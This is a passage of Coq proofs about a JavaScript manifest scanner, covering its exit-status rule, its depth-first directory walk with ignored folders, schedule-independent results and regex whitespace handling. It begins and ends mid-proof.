        - destruct t, (level r); cbn in Hrank |- *; try lia; auto.
        - assert (Hc : summary_count
                         (map (fun k => (k, List.length
                                              (filter (fun r => Level_eqb (level r) k) out)))
                              [critical; high; medium; low]) (level r)
                       = List.length (filter (fun x => Level_eqb (level x) (level r)) out))
            by (destruct (level r); reflexivity).
          rewrite Hc. apply count_positive. exists r. split; [exact Hr|].
          apply Level_eqb_eq. reflexivity. }
      rewrite Hin in Hex. discriminate Hex.
  - split; [discriminate|]. intros (t & r & -> & _).
    assert (Hs : indexOf [critical; high; medium; low] (Level_name t) = Some (Level_rank t))
      by (apply indexOf_levels; exists t; split; reflexivity).
    rewrite Hs in Hi. discriminate Hi.
Qed.

Lemma exitCode_0_or_1 (fail_on : string) (s : list (Level * nat)) :
  exitCode fail_on s = 0 \/ exitCode fail_on s = 1.
Proof.
  unfold exitCode. destruct (negb _); [|left; reflexivity].
  destruct (indexOf _ _); [|left; reflexivity].
  destruct (existsb _ _); [right|left]; reflexivity.
Qed.

(** Extra X14. The process exits with 2 when the report cannot be
    written.  Otherwise it exits with 1 exactly when FAIL_ON names one of
    the four classes and the scan has a finding of that class or of a
    more severe one, and with 0 in every other case: when FAIL_ON is
    none, when no finding reaches the class, and also when FAIL_ON is any
    other text. *)
Theorem exit_status_rule (localeCompare : jsstring -> jsstring -> Z) (fail_on : string)
  (out : list Finding) :
  exit_status (main_report localeCompare fail_on false out) = 2
  /\ (exit_status (main_report localeCompare fail_on true out) = 1
      <-> exists t r,
            fail_on = Level_name t /\ In r out
            /\ (Level_rank (level r) <= Level_rank t)%nat)
  /\ (exit_status (main_report localeCompare fail_on true out) = 0
      \/ exit_status (main_report localeCompare fail_on true out) = 1).
Proof.
  unfold main_report. cbn [exit_status]. rewrite summary_counts.
  split; [reflexivity|]. split; [apply exitCode_counts|apply exitCode_0_or_1].
Qed.

(** The findings of a run are findings that [inspect] returned. *)
Lemma findings_from_inspect (P : Platform) (cfg : Config) (tr : list event) (r : Finding) :
  Forall (legitimate P cfg) tr -> In r (findings_of tr) ->
  exists f lastIndex, fst (inspect P cfg f lastIndex) = Normal (Some r).
Proof.
  intros Hleg Hr. unfold findings_of in Hr. apply in_flat_map in Hr.
  destruct Hr as (e & He & Hr). rewrite Forall_forall in Hleg. specialize (Hleg e He).
  destruct e as [w f|w|w f [[x|]|err]|f]; try contradiction.
  destruct Hr as [->|[]].
  destruct Hleg as [[E _]|[_ [li E]]]; [discriminate E|].
  exists f, li. symmetry. exact E.
Qed.

(** Extra X15. With FAIL_ON unset, empty or critical, no scan ever exits
    with 1: in every state of every run, each finding collected so far
    comes from a file named package.json, scores at most 70 and is not
    critical, so the exit status is 0 when the report is written and 2
    when it is not. *)
Theorem default_FAIL_ON_never_fails (P : Platform) (cfg : Config) (files : list jsstring)
  (localeCompare : jsstring -> jsstring -> Z) (env : option string) (written : bool)
  (tr : list event) (s : Scan) :
  reaches P cfg (start P files) tr s ->
  FAIL_ON env = "critical" ->
  Forall (fun r => path_basename (file r) = u "package.json"
                   /\ score r <= 70 /\ level r <> critical) (out s)
  /\ exit_status (main_report localeCompare (FAIL_ON env) written (out s))
     = if written then 0 else 2.
Proof.
  intros Hreach Henv.
  destruct (invariant_reaches P cfg files tr s Hreach) as [_ _ Hout _ Hev _ _].
  assert (Hall : Forall (fun r => path_basename (file r) = u "package.json"
                                  /\ score r <= 70 /\ level r <> critical) (out s)).
  { apply Forall_forall. intros r Hr. rewrite Hout in Hr.
    destruct (findings_from_inspect P cfg tr r Hev Hr) as (f & li & Hf).
    destruct (inspect_finding_inv P cfg f li r Hf) as (Hbase & st & buf & _ & _ & _ & _ & Hc).
    destruct (inspect_finding_shape P cfg f li r Hf)
      as (_ & _ & _ & _ & _ & _ & _ & Hs & Hl).
    rewrite (conclude_file _ _ _ _ _ Hc). auto. }
  split; [exact Hall|].
  destruct written; [|reflexivity].
  rewrite Henv.
  destruct (exitCode_0_or_1 "critical"
              (report_summary (main_report localeCompare "critical" true (out s))))
    as [E|E]; [exact E|].
  exfalso. unfold main_report in E. cbn [report_summary] in E.
  rewrite summary_counts in E. apply exitCode_counts in E.
  destruct E as (t & r & Et & Hr & Hrank).
  assert (t = critical) by (destruct t; cbn in Et; congruence). subst t.
  rewrite Forall_forall in Hall. destruct (Hall r Hr) as (_ & _ & Hl).
  destruct (level r); cbn in Hrank; try lia. contradiction.
Qed.

(** A complete run of the pool on the sample manifest: the worker [w]
    takes the path and the other worker finds the queue empty. *)
Lemma sample_run (w : nat) :
  w = 0%nat \/ w = 1%nat ->
  exists tr s,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) [u "pkg/package.json"]) tr s
    /\ all_returned s
    /\ hd_error tr = Some (Pop w (u "pkg/package.json"))
    /\ exists r, In r (out s).
Proof.
  intros [-> | ->].
  - eexists _, _. split; [|split; [|split]].
    + eapply reaches_step; [eapply reaches_step; [eapply reaches_step;
        [eapply reaches_step; [apply reaches_start|]|]|]|].
      * apply (step_pop _ _ _ 0%nat [] (u "pkg/package.json")); reflexivity.
      * apply (step_inspected _ _ _ 0%nat (u "pkg/package.json"));
          [reflexivity|vm_compute; discriminate].
      * apply (step_stop _ _ _ 0%nat); reflexivity.
      * apply (step_stop _ _ _ 1%nat); reflexivity.
    + repeat constructor.
    + reflexivity.
    + vm_compute. eexists. left. reflexivity.
  - eexists _, _. split; [|split; [|split]].
    + eapply reaches_step; [eapply reaches_step; [eapply reaches_step;
        [eapply reaches_step; [apply reaches_start|]|]|]|].
      * apply (step_pop _ _ _ 1%nat [] (u "pkg/package.json")); reflexivity.
      * apply (step_inspected _ _ _ 1%nat (u "pkg/package.json"));
          [reflexivity|vm_compute; discriminate].
      * apply (step_stop _ _ _ 1%nat); reflexivity.
      * apply (step_stop _ _ _ 0%nat); reflexivity.
    + repeat constructor.
    + reflexivity.
    + vm_compute. eexists. left. reflexivity.
Qed.

Lemma results_do_not_depend_on_schedule_witness :
  exists tr s tr' s',
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) sample_queue) tr s
    /\ reaches (sample_platform sample_tree) default_config
               (start (sample_platform sample_tree) sample_queue) tr' s'
    /\ hd_error (settled_files tr) = Some (sample_path wallet_js)
    /\ hd_error (settled_files tr') = Some (sample_path beacon_js)
    /\ map skip_file (skipped s) = [sample_path slow_js]
    /\ map skip_file (skipped s') = [sample_path slow_js]
    /\ Permutation (out s) (out s')
    /\ exit_status (main_report code_unit_compare "critical" true (out s))
       = exit_status (main_report code_unit_compare "critical" true (out s')).
Proof.
  destruct (sample_scan (sample_path wallet_js) (or_introl eq_refl))
    as (tr & s & Hreach & Hall & Hhd & Hskip & _).
  destruct (sample_scan (sample_path beacon_js) (or_intror eq_refl))
    as (tr' & s' & Hreach' & Hall' & Hhd' & Hskip' & _).
  exists tr, s, tr', s'.
  destruct (results_do_not_depend_on_schedule (sample_platform sample_tree) default_config
              sample_queue code_unit_compare "critical" true tr tr' s s'
              Hreach Hall Hreach' Hall')
    as (_ & _ & Hp & _ & He).
  { rewrite Hskip, Hskip'. apply Permutation_refl. }
  repeat (split; [assumption|]). exact He.
Defined.

Lemma default_FAIL_ON_never_fails_witness :
  exists tr s,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) [u "pkg/package.json"]) tr s
    /\ all_returned s
    /\ exit_status (main_report code_unit_compare (FAIL_ON None) true (out s)) = 0.
Proof.
  destruct (sample_run 0%nat (or_introl eq_refl)) as (tr & s & Hreach & Hall & _ & _).
  exists tr, s. split; [exact Hreach|]. split; [exact Hall|].
  exact (proj2 (default_FAIL_ON_never_fails (sample_platform sample_tree) default_config
                  [u "pkg/package.json"] code_unit_compare None true tr s
                  Hreach eq_refl)).
Defined.

(* ================================================================== *)
(** ** The directory walk *)

Local Close Scope Z_scope.

Lemma list_sum_cons (x : nat) (l : list nat) : list_sum (x :: l) = x + list_sum l.
Proof. reflexivity. Qed.

Section WalkProofs.
Variable path_join : jsstring -> jsstring -> jsstring.

Lemma walk_entries_called (dir : jsstring) (ents : list Dirent) :
  snd (walk_entries path_join dir ents) = files_here path_join dir ents.
Proof.
  induction ents as [|e ents IH]; [reflexivity|].
  cbn [walk_entries files_here flat_map]. fold (files_here path_join dir ents).
  destruct e as [name|name entries|name]; cbn [snd app]; rewrite <- ?IH; try reflexivity.
  destruct (negb (includes IGNORE_DIRS name)); reflexivity.
Qed.

Lemma stack_files_app (st st' : list (jsstring * option (list Dirent))) :
  stack_files path_join (st ++ st') = stack_files path_join st ++ stack_files path_join st'.
Proof. unfold stack_files. apply flat_map_app. Qed.

Lemma walk_entries_pushed (dir : jsstring) (ents : list Dirent) :
  stack_files path_join (rev (fst (walk_entries path_join dir ents)))
  = List.concat (rev (map (files_below path_join dir) ents)).
Proof.
  induction ents as [|e ents IH]; [reflexivity|].
  cbn [walk_entries map rev]. rewrite concat_app. cbn [List.concat]. rewrite app_nil_r.
  destruct e as [name|name entries|name]; cbn [fst files_below]; rewrite ?app_nil_r;
    try exact IH.
  destruct (includes IGNORE_DIRS name); cbn [negb fst rev].
  - destruct entries; rewrite app_nil_r; exact IH.
  - rewrite stack_files_app, IH. f_equal.
    unfold stack_files. cbn [flat_map fst snd]. rewrite app_nil_r.
    destruct entries; reflexivity.
Qed.

Lemma stack_directories_app (st st' : list (jsstring * option (list Dirent))) :
  stack_directories (st ++ st') = stack_directories st + stack_directories st'.
Proof. unfold stack_directories. rewrite map_app, list_sum_app. reflexivity. Qed.

Lemma stack_directories_rev (st : list (jsstring * option (list Dirent))) :
  stack_directories (rev st) = stack_directories st.
Proof.
  induction st as [|d st IH]; [reflexivity|].
  cbn [rev]. rewrite stack_directories_app, IH.
  unfold stack_directories. cbn [map]. rewrite !list_sum_cons. cbn [list_sum fold_right]. lia.
Qed.

Lemma walk_entries_directories (dir : jsstring) (ents : list Dirent) :
  stack_directories (fst (walk_entries path_join dir ents))
  <= list_sum (map directories ents).
Proof.
  induction ents as [|e ents IH]; [apply Nat.le_refl|].
  cbn [walk_entries map]. rewrite list_sum_cons.
  destruct e as [name|name entries|name]; cbn [fst directories]; try lia.
  destruct (negb (includes IGNORE_DIRS name)); cbn [fst].
  - unfold stack_directories in *. cbn [map fst snd]. rewrite list_sum_cons.
    cbn [directories] in *. destruct entries; lia.
  - destruct entries; lia.
Qed.

(** With a turn of the loop for every directory, [walk_loop] empties its
    stack. *)
Lemma walk_loop_files (fuel : nat) (stack : list (jsstring * option (list Dirent))) :
  stack_directories stack <= fuel ->
  walk_loop path_join fuel stack = stack_files path_join stack.
Proof.
  revert stack. induction fuel as [|fuel IH]; intros stack Hfuel.
  - destruct stack as [|[dir [ents|]] stack]; [reflexivity| |];
      unfold stack_directories in Hfuel; cbn [map fst snd directories] in Hfuel;
      rewrite list_sum_cons in Hfuel; lia.
  - destruct stack as [|[dir [ents|]] stack]; [reflexivity| |]; cbn [walk_loop].
    + rewrite IH.
      * rewrite stack_files_app, walk_entries_called, walk_entries_pushed.
        unfold stack_files at 2. cbn [flat_map fst snd listing_files].
        rewrite <- app_assoc. reflexivity.
      * rewrite stack_directories_app, stack_directories_rev.
        pose proof (walk_entries_directories dir ents).
        unfold stack_directories in Hfuel, H |- *. cbn [map fst snd directories] in *.
        rewrite list_sum_cons in Hfuel. lia.
    + rewrite IH; [reflexivity|].
      unfold stack_directories in Hfuel |- *. cbn [map fst snd directories] in *.
      rewrite list_sum_cons in Hfuel. lia.
Qed.

Lemma walk_files (root : jsstring) (listing : option (list Dirent)) :
  walk path_join root listing = listing_files path_join root listing.
Proof.
  unfold walk. rewrite walk_loop_files.
  - unfold stack_files. cbn [flat_map fst snd]. apply app_nil_r.
  - unfold stack_directories. cbn [map fst snd]. rewrite list_sum_cons.
    cbn [list_sum fold_right]. lia.
Qed.

Lemma in_files_here (dir : jsstring) (ents : list Dirent) (full name : jsstring) :
  In (full, name) (files_here path_join dir ents)
  <-> In (File_entry name) ents /\ full = path_join dir name.
Proof.
  unfold files_here. rewrite in_flat_map. split.
  - intros (e & He & Hin). destruct e as [n|n entries|n]; try contradiction.
    destruct Hin as [E|[]]. inversion E; subst. split; [exact He|reflexivity].
  - intros [He ->]. exists (File_entry name). split; [exact He|left; reflexivity].
Qed.

Lemma in_files_below (dir : jsstring) (ents : list Dirent) (x : jsstring * jsstring) :
  In x (List.concat (rev (map (files_below path_join dir) ents)))
  <-> exists sub below,
        In (Directory sub (Some below)) ents /\ includes IGNORE_DIRS sub = false
        /\ In x (listing_files path_join (path_join dir sub) (Some below)).
Proof.
  rewrite in_concat. split.
  - intros (l & Hl & Hx). apply in_rev, in_map_iff in Hl. destruct Hl as (e & <- & He).
    destruct e as [n|sub [below|]|n]; try contradiction.
    cbn [files_below] in Hx.
    destruct (includes IGNORE_DIRS sub) eqn:Hig; [contradiction|].
    exists sub, below. split; [exact He|]. split; [exact Hig|exact Hx].
  - intros (sub & below & He & Hig & Hx).
    exists (files_below path_join dir (Directory sub (Some below))). split.
    + apply -> in_rev. apply in_map. exact He.
    + cbn [files_below]. rewrite Hig. exact Hx.
Qed.

Lemma directory_below (sub : jsstring) (below ents : list Dirent) :
  In (Directory sub (Some below)) ents ->
  list_sum (map directories below) < list_sum (map directories ents).
Proof.
  induction ents as [|e ents IH]; intros Hin; [contradiction|].
  cbn [map]. rewrite list_sum_cons. destruct Hin as [->|Hin].
  - cbn [directories]. lia.
  - specialize (IH Hin). lia.
Qed.

Lemma listing_files_listed (n : nat) (dir : jsstring) (ents : list Dirent)
  (full name : jsstring) :
  list_sum (map directories ents) <= n ->
  In (full, name) (listing_files path_join dir (Some ents)) ->
  listed path_join dir ents full name.
Proof.
  revert dir ents. induction n as [|n IH]; intros dir ents Hn Hin;
    cbn [listing_files] in Hin; apply in_app_or in Hin; destruct Hin as [Hin|Hin].
  - apply in_files_here in Hin. destruct Hin as [He ->]. apply listed_here. exact He.
  - apply in_files_below in Hin. destruct Hin as (sub & below & He & _ & _).
    pose proof (directory_below sub below ents He). lia.
  - apply in_files_here in Hin. destruct Hin as [He ->]. apply listed_here. exact He.
  - apply in_files_below in Hin. destruct Hin as (sub & below & He & Hig & Hx).
    apply (listed_below path_join dir ents sub below full name He Hig).
    apply IH; [|exact Hx].
    pose proof (directory_below sub below ents He). lia.
Qed.

Lemma listed_listing_files (dir : jsstring) (ents : list Dirent) (full name : jsstring) :
  listed path_join dir ents full name ->
  In (full, name) (listing_files path_join dir (Some ents)).
Proof.
  induction 1 as [dir ents name He | dir ents sub below full name He Hig _ IH];
    cbn [listing_files]; apply in_or_app.
  - left. apply in_files_here. split; [exact He|reflexivity].
  - right. apply in_files_below. exists sub, below. split; [exact He|]. split; assumption.
Qed.
End WalkProofs.

(** Extra X16. The walk calls back for exactly the regular files that
    lie below the root through readable directories none of which has
    an ignored name (.git, .hg, .svn, dist, build, coverage, __tests__):
    no file inside an ignored or unreadable directory is queued, entries
    that are neither files nor directories are passed over, and every
    other file is found, however deep.  A root that cannot be read gives
    no file. *)
Theorem walk_finds_the_listed_files (path_join : jsstring -> jsstring -> jsstring)
  (root : jsstring) (ents : list Dirent) (full name : jsstring) :
  (In (full, name) (walk path_join root (Some ents))
   <-> listed path_join root ents full name)
  /\ walk path_join root None = [].
Proof.
  split; [|reflexivity]. rewrite walk_files. split.
  - apply (listing_files_listed path_join (list_sum (map directories ents))).
    apply Nat.le_refl.
  - apply listed_listing_files.
Qed.

(** Extra X17. The walk is depth first, the subdirectory read last
    taken first: the files of a directory are called back in the order
    of its entries, then come the files found below its subdirectories,
    from the last subdirectory to the first, each with all that lies
    below it. *)
Theorem walk_is_depth_first (path_join : jsstring -> jsstring -> jsstring)
  (root : jsstring) (ents : list Dirent) :
  walk path_join root (Some ents)
  = files_here path_join root ents
    ++ List.concat (rev (map (files_below path_join root) ents)).
Proof.
  unfold walk. rewrite walk_loop_files.
  - unfold stack_files. cbn [flat_map fst snd listing_files]. apply app_nil_r.
  - unfold stack_directories. cbn [map fst snd]. rewrite list_sum_cons.
    cbn [list_sum fold_right]. lia.
Qed.

Lemma settled_nothing (tr : list event) :
  settled_files tr = [] -> findings_of tr = [] /\ skips_of tr = [].
Proof.
  intros H. pose proof (settled_outcomes tr) as Hl. rewrite H in Hl. cbn [List.length] in Hl.
  split; apply length_zero_iff_nil; lia.
Qed.

(** Extra X18. A root directory that cannot be read is no error: the
    queue is empty, so in every state of the scan nothing is processed,
    found or skipped, and when the report is written the exit status is
    0 whatever FAIL_ON is. *)
Theorem unreadable_root_scans_nothing (path_join : jsstring -> jsstring -> jsstring)
  (P : Platform) (cfg : Config) (localeCompare : jsstring -> jsstring -> Z)
  (fail_on : string) (root : jsstring) (tr : list event) (s : Scan) :
  reaches P cfg (start P (main_queue path_join root None)) tr s ->
  processed s = 0 /\ out s = [] /\ skipped s = []
  /\ exit_status (main_report localeCompare fail_on true (out s)) = 0%Z.
Proof.
  intros Hreach.
  destruct (invariant_reaches P cfg _ tr s Hreach) as [Hfiles Hproc Hout Hskip _ _ _].
  change (main_queue path_join root None) with (@nil jsstring) in Hfiles.
  apply Permutation_nil in Hfiles.
  apply app_eq_nil in Hfiles. destruct Hfiles as [_ Hfiles].
  apply app_eq_nil in Hfiles. destruct Hfiles as [_ Hsettled].
  destruct (settled_nothing tr Hsettled) as [Hf Hs].
  rewrite Hproc, Hout, Hskip, Hsettled, Hf, Hs.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  destruct (exitCode_0_or_1 fail_on
              (report_summary (main_report localeCompare fail_on true []))) as [E|E].
  - exact E.
  - exfalso. unfold main_report in E. cbn [report_summary] in E.
    rewrite summary_counts in E. apply exitCode_counts in E.
    destruct E as (t & r & _ & Hr & _). contradiction.
Qed.

Lemma unreadable_root_scans_nothing_witness :
  exists tr s,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree) (main_queue sample_join (u "gone") None))
            tr s
    /\ all_returned s
    /\ processed s = 0
    /\ exit_status (main_report code_unit_compare "low" true (out s)) = 0%Z.
Proof.
  eassert (Hreach : reaches (sample_platform sample_tree) default_config
                      (start (sample_platform sample_tree)
                             (main_queue sample_join (u "gone") None)) _ _).
  { eapply reaches_step; [eapply reaches_step; [apply reaches_start|]|].
    - apply (step_stop _ _ _ 0); reflexivity.
    - apply (step_stop _ _ _ 1); reflexivity. }
  eexists _, _. split; [exact Hreach|]. split; [repeat constructor|].
  destruct (unreadable_root_scans_nothing sample_join (sample_platform sample_tree)
              default_config code_unit_compare "low" (u "gone") _ _ Hreach)
    as (Hp & _ & _ & He).
  split; [exact Hp|exact He].
Defined.


(** Extra X19. Every finding of a scan belongs to a file named
    package.json that the walk has found: a regular file below the
    root, reached through readable directories none of which has an
    ignored name.  Nothing inside .git, dist, build, coverage and the
    like is ever reported. *)
Theorem findings_are_walked_manifests (path_join : jsstring -> jsstring -> jsstring)
  (P : Platform) (cfg : Config) (root : jsstring) (ents : list Dirent)
  (tr : list event) (s : Scan) (r : Finding) :
  reaches P cfg (start P (main_queue path_join root (Some ents))) tr s ->
  In r (out s) ->
  path_basename (file r) = u "package.json"
  /\ exists name, listed path_join root ents (file r) name.
Proof.
  intros Hreach Hr.
  destruct (invariant_reaches P cfg _ tr s Hreach) as [Hfiles _ Hout _ Hev _ _].
  rewrite Hout in Hr. split.
  - destruct (findings_from_inspect P cfg tr r Hev Hr) as (f & li & Hf).
    destruct (inspect_finding_inv P cfg f li r Hf) as (Hbase & st & buf & _ & _ & _ & _ & Hc).
    rewrite (conclude_file _ _ _ _ _ Hc). exact Hbase.
  - pose proof (findings_from_settled P cfg tr r Hev Hr) as Hs.
    assert (Hq : In (file r) (main_queue path_join root (Some ents))).
    { apply (Permutation_in (file r) (Permutation_sym Hfiles)).
      apply in_or_app. right. apply in_or_app. right. exact Hs. }
    unfold main_queue in Hq. apply in_map_iff in Hq. destruct Hq as ([full name] & E & Hw).
    cbn [fst] in E. subst full. exists name.
    rewrite walk_files in Hw.
    apply (listing_files_listed path_join (list_sum (map directories ents)));
      [apply Nat.le_refl|exact Hw].
Qed.

Lemma findings_are_walked_manifests_witness :
  exists tr s r,
    reaches (sample_platform sample_tree) default_config
            (start (sample_platform sample_tree)
                   (main_queue sample_join (u "pkg") (Some [File_entry (u "package.json")])))
            tr s
    /\ In r (out s)
    /\ path_basename (file r) = u "package.json".
Proof.
  destruct (sample_run 0 (or_introl eq_refl)) as (tr & s & Hreach & _ & _ & r & Hr).
  exists tr, s, r. split; [exact Hreach|]. split; [exact Hr|].
  exact (proj1 (findings_are_walked_manifests sample_join (sample_platform sample_tree)
                  default_config (u "pkg") [File_entry (u "package.json")] tr s r
                  Hreach Hr)).
Defined.

(* ================================================================== *)
(** ** Snippets *)

Local Close Scope Z_scope.

Lemma matcher_in_range (ic : bool) (s : jsstring) (r : RegExp.regex) (i e : nat)
  (cap c : RegExp.captures) :
  i <= List.length s ->
  RegExp.matcher ic s r i cap found = Some (e, c) ->
  i <= e <= List.length s.
Proof.
  intros Hi Hm.
  rewrite (matcher_local ic s r i cap found
             (fun j c => if Nat.leb j (List.length s) then Some (j, c) else None) Hi) in Hm.
  - destruct (matcher_passes ic s r i cap _ _ Hm) as (j & c' & Hj & Hk).
    destruct (Nat.leb_spec j (List.length s)); [|discriminate Hk].
    inversion Hk; subst. lia.
  - intros j c' [_ Hj]. unfold found.
    destruct (Nat.leb_spec j (List.length s)); [reflexivity|lia].
Qed.

Lemma search_found (re : RegExp.t) (s : jsstring) (n i : nat) (m : RegExp.Match) :
  RegExp.search re s i n = Some m ->
  RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re) (RegExp.index m) [] found
  = Some (RegExp.endIndex m, RegExp.groups m)
  /\ i <= RegExp.index m < i + n
  /\ forall j, i <= j < RegExp.index m ->
       RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re) j [] found = None.
Proof.
  revert i. induction n as [|n IH]; intros i H; [discriminate H|].
  cbn [RegExp.search] in H. fold found in H.
  destruct (RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re) i [] found)
    as [[e c]|] eqn:Hm.
  - inversion H; subst. cbn [RegExp.index RegExp.endIndex RegExp.groups].
    split; [exact Hm|]. split; [lia|]. intros j Hj. lia.
  - destruct (IH (S i) H) as (Hf & Hr & Hn).
    split; [exact Hf|]. split; [lia|].
    intros j Hj. destruct (Nat.eq_dec j i) as [->|Hne]; [exact Hm|]. apply Hn. lia.
Qed.

Lemma search_nothing (re : RegExp.t) (s : jsstring) (n i : nat) :
  RegExp.search re s i n = None ->
  forall j, i <= j < i + n ->
    RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re) j [] found = None.
Proof.
  revert i. induction n as [|n IH]; intros i H j Hj; [lia|].
  cbn [RegExp.search] in H. fold found in H.
  destruct (RegExp.matcher (RegExp.ignoreCase re) s (RegExp.source re) i [] found)
    as [[e c]|] eqn:Hm; [discriminate H|].
  destruct (Nat.eq_dec j i) as [->|Hne]; [exact Hm|]. apply (IH (S i) H). lia.
Qed.

Lemma matcher_Class (ic : bool) (s : jsstring) (neg : bool) (rs : list (N * N)) (i : nat)
  (cap : RegExp.captures) (k : RegExp.cont) :
  RegExp.matcher ic s (RegExp.Class neg rs) i cap k
  = match nth_error s i with
    | Some x => if xorb neg (RegExp.class_matches ic rs x) then k (S i) cap else None
    | None => None
    end.
Proof. reflexivity. Qed.

Lemma slice_between (s : jsstring) (b e : nat) (x : N) :
  In x (slice s b e) -> exists j, b <= j < e /\ nth_error s j = Some x.
Proof.
  unfold slice. intros Hin. apply In_nth_error in Hin. destruct Hin as [n Hn].
  rewrite nth_error_firstn in Hn. destruct (Nat.ltb_spec n (e - b)); [|discriminate Hn].
  rewrite nth_error_skipn in Hn. exists (b + n). split; [lia|exact Hn].
Qed.

Lemma skipn_from (s : jsstring) (b : nat) (x : N) :
  In x (skipn b s) -> exists j, b <= j /\ nth_error s j = Some x.
Proof.
  intros Hin. apply In_nth_error in Hin. destruct Hin as [n Hn].
  rewrite nth_error_skipn in Hn. exists (b + n). split; [lia|exact Hn].
Qed.

Lemma skipn_at (s : jsstring) (i : nat) (x : N) :
  nth_error s i = Some x -> skipn i s = x :: skipn (S i) s.
Proof.
  revert i. induction s as [|c s IH]; intros [|i] H; cbn in H; try discriminate.
  - injection H as ->. reflexivity.
  - cbn [skipn]. apply (IH i H).
Qed.

Lemma skipn_end (s : jsstring) (i : nat) :
  nth_error s i = None -> skipn i s = [].
Proof. intros H. apply skipn_all2. apply nth_error_None. exact H. Qed.

(** Zero or more white space at [i]: all of it. *)
Lemma star_space_at (s : jsstring) (n : nat) : forall i cap,
  List.length s - i <= n -> i <= List.length s ->
  RegExp.matcher false s (RegExp.Rep 0 None (RegExp.Class false RegExp.space)) i cap found
  = Some (i + leading_space (skipn i s), cap).
Proof.
  induction n as [|n IH]; intros i cap Hn Hi.
  - rewrite Rep_unfold by exact Hi. cbv zeta. change (Nat.eqb 0 0) with true. cbv iota.
    rewrite matcher_Class.
    assert (E : nth_error s i = None) by (apply nth_error_None; lia).
    rewrite E, (skipn_end s i E). cbn [leading_space]. rewrite Nat.add_0_r. reflexivity.
  - rewrite Rep_unfold by exact Hi. cbv zeta. change (Nat.eqb 0 0) with true. cbv iota.
    rewrite matcher_Class.
    destruct (nth_error s i) as [x|] eqn:E.
    + rewrite (skipn_at s i x E). cbn [leading_space xorb]. unfold is_space.
      destruct (RegExp.class_matches false RegExp.space x).
      * assert (Hs : S i <= List.length s).
        { apply Nat.le_succ_l. apply nth_error_Some. rewrite E. discriminate. }
        cbn [andb]. replace (Nat.eqb (S i) i) with false
          by (symmetry; apply Nat.eqb_neq; lia).
        cbn [Nat.pred option_map].
        change (RegExp.clear_groups (RegExp.Class false RegExp.space) cap) with cap.
        rewrite (IH (S i) cap) by lia. f_equal. f_equal. lia.
      * rewrite Nat.add_0_r. reflexivity.
    + rewrite (skipn_end s i E). cbn [leading_space]. rewrite Nat.add_0_r. reflexivity.
Qed.

(** [\s+] at [i]: the whole run of white space that starts there. *)
Lemma whitespace_run (s : jsstring) (i : nat) :
  i <= List.length s ->
  RegExp.matcher false s (RegExp.source WHITESPACE) i [] found
  = match leading_space (skipn i s) with
    | 0 => None
    | S n => Some (i + S n, [])
    end.
Proof.
  intros Hi. unfold WHITESPACE, re_g, RegExp.plus. cbn [RegExp.source].
  rewrite Rep_unfold by exact Hi. cbv zeta. change (Nat.eqb 1 0) with false. cbv iota.
  rewrite matcher_Class.
  destruct (nth_error s i) as [x|] eqn:E.
  - rewrite (skipn_at s i x E). cbn [leading_space xorb]. unfold is_space.
    destruct (RegExp.class_matches false RegExp.space x); [|reflexivity].
    assert (Hs : S i <= List.length s).
    { apply Nat.le_succ_l. apply nth_error_Some. rewrite E. discriminate. }
    cbn [andb Nat.pred option_map].
    change (RegExp.clear_groups (RegExp.Class false RegExp.space) []) with (@nil (nat * (nat * nat))).
    rewrite (star_space_at s (List.length s) (S i) _) by lia. f_equal. f_equal. lia.
  - rewrite (skipn_end s i E). reflexivity.
Qed.

Lemma squeeze_run (l : jsstring) :
  squeeze true l = squeeze false (skipn (leading_space l) l).
Proof.
  induction l as [|c l IH]; [reflexivity|].
  cbn [squeeze leading_space]. destruct (is_space c) eqn:E.
  - cbn [skipn]. exact IH.
  - cbn [skipn squeeze]. rewrite E. reflexivity.
Qed.

Lemma squeeze_plain (p l : jsstring) :
  Forall (fun c => is_space c = false) p ->
  squeeze false (p ++ l) = p ++ squeeze false l.
Proof.
  induction 1 as [|c p Hc _ IH]; [reflexivity|].
  cbn [app squeeze]. rewrite Hc, IH. reflexivity.
Qed.

Lemma leading_space_none (s : jsstring) (j : nat) (x : N) :
  leading_space (skipn j s) = 0 -> nth_error s j = Some x -> is_space x = false.
Proof.
  intros H Hx. rewrite (skipn_at s j x Hx) in H. cbn [leading_space] in H.
  destruct (is_space x); [discriminate H|reflexivity].
Qed.

Lemma no_match_no_space (s : jsstring) (j : nat) (x : N) :
  j <= List.length s ->
  RegExp.matcher false s (RegExp.source WHITESPACE) j [] found = None ->
  nth_error s j = Some x -> is_space x = false.
Proof.
  intros Hj Hm Hx. rewrite whitespace_run in Hm by exact Hj.
  apply (leading_space_none s j x); [|exact Hx].
  destruct (leading_space (skipn j s)); [reflexivity|discriminate Hm].
Qed.

Lemma skipn_slice (s : jsstring) (b e : nat) :
  b <= e -> skipn b s = slice s b e ++ skipn e s.
Proof.
  intros H. unfold slice.
  rewrite <- (firstn_skipn (e - b) (skipn b s)) at 1. f_equal.
  rewrite skipn_skipn. f_equal. lia.
Qed.

(** Replacing the runs of white space from [li] on leaves one space for
    each run. *)
Lemma whitespace_squeezed (s : jsstring) (fuel : nat) : forall li,
  li <= List.length s ->
  S (List.length s) - li < fuel ->
  RegExp.replace_matches s li (RegExp.exec_all WHITESPACE s fuel li) (u " ")
  = squeeze false (skipn li s).
Proof.
  induction fuel as [|fuel IH]; intros li Hli Hfuel; [lia|].
  cbn [RegExp.exec_all]. unfold RegExp.search_from.
  destruct (RegExp.search WHITESPACE s li (S (List.length s) - li)) as [m|] eqn:Hs.
  - destruct (search_found _ _ _ _ _ Hs) as (Hm & Hr & Hn).
    change (RegExp.ignoreCase WHITESPACE) with false in Hm, Hn.
    rewrite whitespace_run in Hm by lia.
    destruct (leading_space (skipn (RegExp.index m) s)) as [|n] eqn:Hrun; [discriminate Hm|].
    apply (f_equal (fun o => match o with Some (e, _) => e | None => 0 end)) in Hm.
    cbv beta iota in Hm.
    assert (Hend : RegExp.endIndex m <= List.length s).
    { rewrite <- Hm.
      assert (H : leading_space (skipn (RegExp.index m) s)
                  <= List.length (skipn (RegExp.index m) s)).
      { generalize (skipn (RegExp.index m) s). intros l.
